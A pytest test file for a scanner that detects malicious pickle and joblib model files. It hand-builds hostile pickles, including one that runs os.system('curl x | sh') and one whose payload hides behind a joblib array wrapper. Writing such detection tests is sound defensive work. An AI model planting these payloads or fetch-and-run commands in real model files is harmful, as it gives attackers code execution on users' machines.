"""Harmful files, written by hand: none is clean, and the reason names what would happen."""

from __future__ import annotations

import pytest

from crenel.scan import Verdict, scan_bytes

from .corpus import HARMFUL, ONLY_NOT_CLEAN, name, proto, reduced, stack_name, system, text


@pytest.mark.parametrize("key", sorted(HARMFUL))
def test_harmful_file_is_not_clean(key):
    result = scan_bytes(HARMFUL[key], "model.bin")
    assert result.verdict is not Verdict.CLEAN
    assert result.reasons
    if key not in ONLY_NOT_CLEAN:
        assert result.verdict in (Verdict.DANGEROUS, Verdict.MALICIOUS), result


def test_corpus_is_large_enough():
    assert len(HARMFUL) >= 120


def test_call_is_reconstructed_with_its_offset():
    data = proto(2) + reduced(name("os", "system"), text("curl x | sh")) + b"."
    reason = scan_bytes(data).reasons[0]
    assert reason.call == "os.system('curl x | sh')"
    assert data[reason.offset : reason.offset + 1] == b"R"
    assert reason.verdict is Verdict.MALICIOUS


def test_chain_of_calls_is_reconstructed():
    reason = next(
        r for r in scan_bytes(HARMFUL["chain/getattr-import"]).reasons if r.code == "computed-call"
    )
    assert reason.call == "builtins.getattr(builtins.__import__('os'), 'system')('true')"


def test_member_of_an_archive_is_named():
    result = scan_bytes(HARMFUL["container/zip-in-zip"])
    assert {r.member for r in result.reasons} == {"a/b.zip!m/data.pkl"}


def test_payload_is_reported_beside_the_damage():
    codes = {r.code for r in scan_bytes(HARMFUL["broken/truncated-after-call"]).reasons}
    assert codes == {"hostile-call", "damaged"}


@pytest.mark.parametrize("cut", [3, 10, 20, 26])
def test_truncated_pickle_is_never_clean(cut):
    assert scan_bytes(system()[:cut]).verdict is not Verdict.CLEAN


@pytest.mark.parametrize("path", ["__main__.Net", "mypackage.models.Net"])
def test_own_class_is_for_review_and_says_what_to_trust(path):
    module, _, cls = path.rpartition(".")
    data = proto(4) + stack_name(module, cls) + b")\x81}" + text("w") + b"K\x01sb."
    result = scan_bytes(data)
    assert result.verdict is Verdict.REVIEW
    assert result.reasons[0].call == f"{path}()"
    assert 'trust = "sha256:…"' in result.reasons[0].sentence


def test_extension_cannot_clear_a_file():
    for suffix in ("csv", "txt", "onnx", "safetensors", "png", "json"):
        assert scan_bytes(system(0)[2:], f"x.{suffix}").verdict is Verdict.MALICIOUS
        assert scan_bytes(system(4), f"x.{suffix}").verdict is Verdict.MALICIOUS


def test_joblib_array_bytes_are_read_by_plain_pickle_too():
    """joblib passes over the array; pickle.load runs its bytes as operations."""
    payload = b"0" + reduced(name("os", "system"), text("true")) + b"."
    payload = payload.ljust(-(-len(payload) // 8) * 8, b".")
    dtype = reduced(name("numpy", "dtype"), text("f8"), b"\x89", b"\x88")
    state = (
        b"}("
        + b"".join(
            [
                text("subclass") + name("numpy", "ndarray"),
                text("shape") + b"K" + bytes([len(payload) // 8]) + b"\x85",
                text("order") + text("C"),
                text("dtype") + dtype,
                text("allow_mmap") + b"\x88",
            ]
        )
        + b"u"
    )
    wrapper = name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"
    result = scan_bytes(proto(2) + wrapper + payload + b".")
    assert result.format == "joblib"
    assert result.verdict is Verdict.MALICIOUS
    assert result.reasons[0].sentence.startswith("Read by plain pickle")
    harmless = scan_bytes(proto(2) + wrapper + bytes(len(payload)) + b".")
    assert harmless.verdict is Verdict.CLEAN


def test_payload_behind_a_joblib_array_is_found():
    import io

    import joblib
    import numpy as np

    buffer = io.BytesIO()
    joblib.dump({"a": np.arange(100.0), "b": np.array([None, "x"], dtype=object)}, buffer)
    data = buffer.getvalue()
    assert scan_bytes(data).verdict is Verdict.CLEAN
    evil = data[:-1] + reduced(name("os", "system"), text("true")) + b"0."
    assert scan_bytes(evil).verdict is Verdict.MALICIOUS
